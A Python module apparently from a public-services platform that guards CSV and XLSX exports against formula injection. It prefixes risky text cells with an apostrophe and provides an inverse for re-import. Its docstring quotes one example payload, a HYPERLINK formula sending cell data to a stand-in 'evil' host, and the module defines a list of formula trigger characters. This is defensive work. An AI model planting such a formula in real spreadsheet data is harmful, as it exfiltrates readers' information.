"""Spreadsheet cells that cannot turn into formulas: the one neutraliser every CSV/XLSX writer uses.

A spreadsheet treats a cell that starts with ``= + - @`` (and, after trimming, TAB or CR) as a
formula: ``=HYPERLINK("http://evil/?"&A1)`` in a resident's description would run in the
reader's Excel (CSV injection, OWASP). Text cells starting with one of those characters get a
leading apostrophe, which Excel and LibreOffice show as plain text; numbers, dates and booleans
are values, not text, and pass unchanged (a negative number is not a formula).

Writers: the console case export (CSV and XLSX), the registry CSV export (whose importer calls
:func:`restore_cell` so the round trip stays lossless), the assessment workbook and the
evaluations city summary (both through :func:`workbook_bytes`).
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may show it: text that a spreadsheet would read as a formula
    gets a leading apostrophe; every other value is returned as is."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def restore_cell(text: str) -> str:
    """The inverse of :func:`safe_cell` for text read back from a file we wrote."""
    if text.startswith(QUOTE) and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text


def neutralise_workbook(book: Workbook) -> None:
    """Neutralise every text cell of an (ordinary, not write-only) workbook in place.

    openpyxl stores a string starting with ``=`` as a formula (data type ``f``); the writers of
    this platform never write formulas, so every such cell came from data.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(TRIGGERS):
                    cell.value = QUOTE + value
                    cell.data_type = "s"


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook as XLSX bytes, every text cell neutralised first."""
    neutralise_workbook(book)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()
